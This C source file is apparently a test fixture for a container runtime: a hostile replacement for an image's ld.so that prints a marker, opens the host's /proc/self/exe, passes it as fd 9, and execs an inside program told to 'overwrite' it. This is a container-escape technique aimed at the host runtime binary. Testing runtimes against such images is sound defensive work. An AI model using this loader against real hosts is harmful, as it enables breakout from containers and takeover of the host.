/* The image's ld.so, in hostile hands: whoever runs a program of the host with this root runs it.
   No libc: an ELF interpreter gets the auxiliary vector of the program that it was to load. */
#include <asm/unistd.h>
#include <fcntl.h>

static long call(long number, long a, long b, long c, long d) {
	long result;
#if defined(__x86_64__)
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
#else
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	result = x0;
#endif
	return result;
}

void _start(void) {
	static const char *arguments[] = {"inside", "overwrite", "9", "3", 0};
	static const char *environment[] = {0};
	call(__NR_write, 1, (long)"loader=ran\n", 11, 0);
	long fd = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
	call(__NR_dup3, fd, 9, 0, 0);
	call(__NR_execve, (long)"/bin/inside", (long)arguments, (long)environment, 0);
	call(__NR_exit_group, 99, 0, 0, 0);
}
